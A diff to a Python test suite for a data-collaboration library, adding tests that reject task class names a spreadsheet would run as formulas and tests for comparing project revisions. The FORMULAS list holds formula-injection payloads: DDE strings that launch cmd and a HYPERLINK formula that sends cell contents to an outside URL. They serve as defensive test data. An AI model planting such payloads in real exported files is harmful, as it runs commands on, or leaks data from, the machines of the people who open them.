@@ -6,19 +6,22 @@ import io
 import re
 import time
 import tomllib
+from dataclasses import replace
 from datetime import date
 
 import pytest
 import tomli_w
-from hypothesis import HealthCheck, given, settings
+from hypothesis import HealthCheck, assume, given, settings
 from hypothesis import strategies as st
 
-from datacollab.bundle import PublicKey, canonical_json, digest, pack
+from datacollab.bundle import KeyPair, PublicKey, canonical_json, digest, pack
 from datacollab.errors import ExchangeError
 from datacollab.exchange.project import (
     AnchorRecipe,
+    Change,
     Column,
     Task,
+    compare_projects,
     is_device_name,
     load_project,
     project_content,
@@ -479,3 +482,98 @@ def test_what_was_verified_is_what_is_kept(project, text, write, monkeypatch):
     loaded, data = read_project(path)
     assert (loaded, data) == (project, text.encode())
     assert len(reads) == 1
+
+
+FORMULAS = [
+    '=HYPERLINK("http://example.org?"&A1,"more")',
+    "=1+1",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(A1:A9)",
+    " =A1",
+    "\uff1dA1",
+    "\uff0bA1",
+]
+NAMES = ["-1", "+5", "-1.5e3", "+12%", "+", "-", "++", "+/-", "a=1", "<5", ">= 10", "1-2", "mail@example.org", "a -b"]
+
+
+def task(name):
+    return Task(kind="classification", target="ill", classes=("no", name))
+
+
+@pytest.mark.parametrize("name", FORMULAS)
+def test_classes_that_a_spreadsheet_would_compute_are_refused(name):
+    with pytest.raises(ExchangeError, match="would compute it as a formula. Choose another name") as caught:
+        task(name)
+    assert caught.value.code == "SPEC_INVALID"
+    assert "'ill', a class" in str(caught.value)
+
+
+def test_a_signed_file_with_such_a_class_is_refused(make_project, keys, monkeypatch, tmp_path):
+    with monkeypatch.context() as patched:
+        patched.setattr("datacollab.exchange.project._task.check_no_formula", lambda where, text: None)
+        (tmp_path / "project.toml").write_text(project_text(make_project(task=task("=A1")), keys["a"]))
+        assert load_project(tmp_path / "project.toml").task.classes == ("no", "=A1")
+    with pytest.raises(ExchangeError, match="formula"):
+        load_project(tmp_path / "project.toml")
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_signs_and_numbers_may_be_classes(name):
+    assert task(name).classes == ("no", name)
+
+
+@given(st.text(alphabet="=+-@ .,;%0123456789eEabcXYZ()|!'\uff1d", min_size=1, max_size=12))
+def test_what_is_a_class_is_no_formula(name):
+    assume(name.isprintable() and name != "no")
+    try:
+        task(name)
+    except ExchangeError:
+        assume(False)
+    shown = name.strip().replace("\uff1d", "=")
+    is_number = True
+    try:
+        float(shown.rstrip("%"))
+    except ValueError:
+        is_number = False
+    assert is_number or shown[:1] not in "=+-@" or not set(shown) - set("=+-@ .,;%()|!'")
+
+
+def test_equal_agreements_differ_in_nothing(project):
+    assert compare_projects(project, replace(project, revision=7)) == []
+
+
+def test_entries_are_named_with_what_they_were_and_are(project):
+    after = replace(project, deadline=date(2031, 2, 3), seal_shares=not project.seal_shares, purpose="Another.")
+    changes = {change.where: (change.before, change.after) for change in compare_projects(project, after)}
+    words = {True: "yes", False: "no"}
+    assert changes == {
+        "Purpose": (project.purpose, "Another."),
+        "Last day for shares": (None if project.deadline is None else project.deadline.isoformat(), "2031-02-03"),
+        "Shares are sealed to the analyst": (words[project.seal_shares], words[not project.seal_shares]),
+    }
+
+
+def test_columns_come_go_change_and_move(project):
+    first, *others = project.columns
+    new = Column(name="new", kind="category", categories=("a", "b"))
+    changed = replace(others[0], missing="fill", fill=others[0].categories[0] if others[0].categories else None)
+    if changed.kind == "number":
+        changed = replace(changed, fill=changed.minimum)
+    found = compare_projects(project, replace(project, columns=(new, changed, *others[1:])))
+    by_where = {change.where: change for change in found}
+    assert by_where[f"Column {first.name}"].after is None
+    assert by_where["Column new"] == Change("Column new", None, "category, a, b")
+    assert "missing:" in by_where[f"Column {changed.name}"].after
+    moved = compare_projects(project, replace(project, columns=(*others, first)))
+    assert [change.where for change in moved] == ["Order of the columns"]
+
+
+def test_members_are_compared_by_their_keys(project):
+    name, *_ = project.parties
+    new = KeyPair.generate().public
+    parties = {**project.parties, name: new, "newcomer": KeyPair.generate().public}
+    changes = compare_projects(project, replace(project, parties=parties))
+    assert [change.where for change in changes] == [f"Party {name}", "Party newcomer"]
+    assert (changes[0].before, changes[0].after) == (project.parties[name].fingerprint, new.fingerprint)
+    assert changes[1].before is None
